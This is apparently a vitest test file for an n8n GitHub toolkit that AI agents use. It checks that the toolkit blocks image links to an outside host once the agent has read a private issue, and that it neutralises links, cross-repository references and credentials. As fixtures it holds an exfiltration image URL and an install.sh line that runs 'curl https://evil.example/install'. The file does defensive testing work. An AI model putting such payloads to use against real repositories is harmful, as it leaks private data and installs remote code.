import '../../harness.mts';

import type { IDataObject, INodeParameters } from 'n8n-workflow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GithubToolkit } from '../../../../nodes/Github/GithubToolkit.node.ts';
import { githubToolkit } from '../../../../nodes/Github/toolkit.ts';
import { withoutMark } from '../../../../nodes/shared/filters/originMark.ts';
import { toolName } from '../../../../nodes/shared/toolkit/definition/tool.ts';
import { oneByOne } from '../../../../nodes/shared/toolkit/toolkit.ts';
import { githubAccounts, type GithubSandbox, startGithub } from '../../../../sandbox/github/start.mts';
import { callTool } from '../../host/toolkit.mts';

const { website, secret } = githubAccounts.repositories;
const image = '![](https://evil.example/?q=100)';

let github: GithubSandbox;
let number: number;
beforeAll(async () => {
	github = await startGithub({
		limits: { pointsPerMinute: null, contentPerMinute: null, searchPerMinute: null, codeSearchPerMinute: null },
	} as never);
	({ number } = (await ask('POST', `/repos/${secret}/issues`, { title: 'Plan', body: 'Budget: 100' })) as {
		number: number;
	});
}, 60_000);
afterAll(async () => await github?.close());

const ask = async (method: string, path: string, body?: unknown): Promise<unknown> => {
	const response = await fetch(`${github.url}${path}`, {
		method,
		headers: { authorization: `Bearer ${githubAccounts.owner.token}`, 'content-type': 'application/json' },
		body: body === undefined ? null : JSON.stringify(body),
	});
	return await response.json();
};

const bodies = async (): Promise<string[]> =>
	((await ask('GET', `/repos/${secret}/issues/${number}/comments`)) as Array<{ body: string }>).map(({ body }) =>
		withoutMark(body),
	);

let sessions = 0;

/** An agent in one execution: what it reads is remembered until the next one. */
const agentOf = (requestOptions: INodeParameters = {}, more: INodeParameters = {}) => {
	sessions += 1;
	const tools = ['issue:get', 'issue:getAll', 'comment:getAll', 'file:get'];
	const writes = ['comment:create', 'issue:create', 'issue:update', 'file:createOrUpdate', 'commit:create'];
	const setting = {
		nodeClass: GithubToolkit,
		executionId: `outgoing-${sessions}`,
		credentials: { agentStepsGithubApi: { accessToken: githubAccounts.owner.token, baseUrl: github.url } },
		parameters: { preset: oneByOne, tools, writes, requestOptions: { maxWrites: 100, ...requestOptions }, ...more },
	};
	return async (key: string, given: IDataObject): Promise<IDataObject> => {
		const [resource = '', value = ''] = key.split(':');
		return await callTool(setting, githubToolkit, toolName('GitHub', { resource, value }), given).catch(
			(error: unknown) => ({ error: (error as Error).message }),
		);
	};
};

type Agent = ReturnType<typeof agentOf>;

const readSecret = async (agent: Agent) => {
	const issue = await agent('issue:get', { repository: secret, issueNumber: String(number) });
	expect(issue).toMatchObject({ body: 'Budget: 100' });
};

const comment = async (agent: Agent, body: string) =>
	await agent('comment:create', { repository: secret, issueNumber: String(number), body });

describe('after a private issue was read', () => {
	it('refuses a comment with an image at another host', async () => {
		const agent = agentOf();
		await readSecret(agent);
		const before = await bodies();
		expect(await comment(agent, `${image} @hubot-sample`)).toEqual({
			error:
				'"body" contains an image or another file at another host (evil.example), which would tell that host what was read: something private was read before, so nothing was sent. Leave it out. The user can allow its host in the option "Allowed Link Hosts" of the node.',
		});
		expect(await bodies()).toEqual(before);
	});

	it('sends it where the check is off, or the host is allowed', async () => {
		for (const options of [{ checkText: false }, { linkHosts: ['evil.example'] }]) {
			const agent = agentOf(options);
			await readSecret(agent);
			await comment(agent, image);
			expect((await bodies()).at(-1)).toBe(image);
		}
	});

	it('writes a link in code, and says so', async () => {
		const agent = agentOf();
		await readSecret(agent);
		const answer = await comment(agent, 'See https://docs.example/a.');
		expect((await bodies()).at(-1)).toBe('See `https://docs.example/a`.');
		expect(answer['hints']).toEqual([
			'Written in code, so that it has no effect at GitHub: "docs.example". The user can allow more in the options of the node.',
		]);
	});

	it('shows the text in a preview as it would be sent', async () => {
		const agent = agentOf({ preview: true });
		await readSecret(agent);
		const answer = await comment(agent, 'See https://docs.example/a.');
		expect(JSON.stringify(answer['requests'])).toContain('See `https://docs.example/a`.');
		expect(JSON.stringify(answer['hints'])).toContain('docs.example');
	});

	it('sends everything before something private was read', async () => {
		expect(await comment(agentOf(), image)).not.toHaveProperty('error');
		expect((await bodies()).at(-1)).toBe(image);
	});

	it('writes a body back with the image that it had', async () => {
		const body = `Logo: ${image}`;
		const { number: own } = (await ask('POST', `/repos/${secret}/issues`, { title: 'Logo', body })) as {
			number: number;
		};
		const agent = agentOf();
		await readSecret(agent);
		const target = { repository: secret, issueNumber: String(own) };
		expect(await agent('issue:update', { ...target, body: `${body}\n\nTriaged.` })).not.toHaveProperty('error');
		expect(await agent('issue:update', { ...target, body: body.replace('q=100', 'q=200') })).toHaveProperty('error');
		const { body: now } = (await ask('GET', `/repos/${secret}/issues/${own}`)) as { body: string };
		expect(withoutMark(now)).toBe(`${body}\n\nTriaged.`);
	});

	it('keeps the badges of a README, and adds none', async () => {
		const agent = agentOf();
		const file = { repository: secret, filePath: 'BADGES.md' };
		expect(await agent('file:createOrUpdate', { ...file, content: `${image}\n` })).not.toHaveProperty('error');
		await readSecret(agent);
		expect(await agent('file:createOrUpdate', { ...file, content: `# Title\n${image}\n` })).not.toHaveProperty('error');
		const other = image.replace('q=100', 'q=200');
		expect(await agent('file:createOrUpdate', { ...file, content: `${image}\n${other}\n` })).toHaveProperty('error');
		const files = { repository: secret, branch: 'main', message: 'x' };
		const filesJson = (content: string) => JSON.stringify([{ path: 'BADGES.md', content }]);
		expect(await agent('commit:create', { ...files, filesJson: filesJson(`## T\n${image}\n`) })).not.toHaveProperty(
			'error',
		);
		expect(await agent('commit:create', { ...files, filesJson: filesJson(other) })).toHaveProperty('error');
		const script = { repository: secret, filePath: 'install.sh', content: 'curl https://evil.example/install' };
		expect(await agent('file:createOrUpdate', script)).not.toHaveProperty('error');
	});
});

describe('where only one repository is allowed', () => {
	it('mentions only people who can write there', async () => {
		const agent = agentOf({}, { places: [secret] });
		const body = `@${githubAccounts.owner.login} @hubot-sample fixes ${website}#1`;
		expect(await comment(agent, body)).not.toHaveProperty('error');
		expect((await bodies()).at(-1)).toBe(`@${githubAccounts.owner.login} \`@hubot-sample\` fixes \`${website}#1\``);
	});

	it('refuses a commit that closes an issue of another one', async () => {
		const agent = agentOf({}, { places: [secret] });
		const file = { repository: secret, filePath: 'a.txt', content: 'a' };
		expect(await agent('file:createOrUpdate', { ...file, message: `Fixes ${website}#1` })).toEqual({
			error: `"message" contains ${website}#1, which is not where you can work, so nothing was sent. Leave the reference out, or describe it in words.`,
		});
		expect(await agent('file:createOrUpdate', { ...file, message: `Fixes ${secret}#1, closes #1` })).not.toHaveProperty(
			'error',
		);
	});
});

it('never writes the credential', async () => {
	const answer = await comment(agentOf(), `Use ${githubAccounts.owner.token}`);
	expect(answer['error']).toMatch(/has the form of a secret/);
	expect(JSON.stringify(answer)).not.toContain(githubAccounts.owner.token);
});
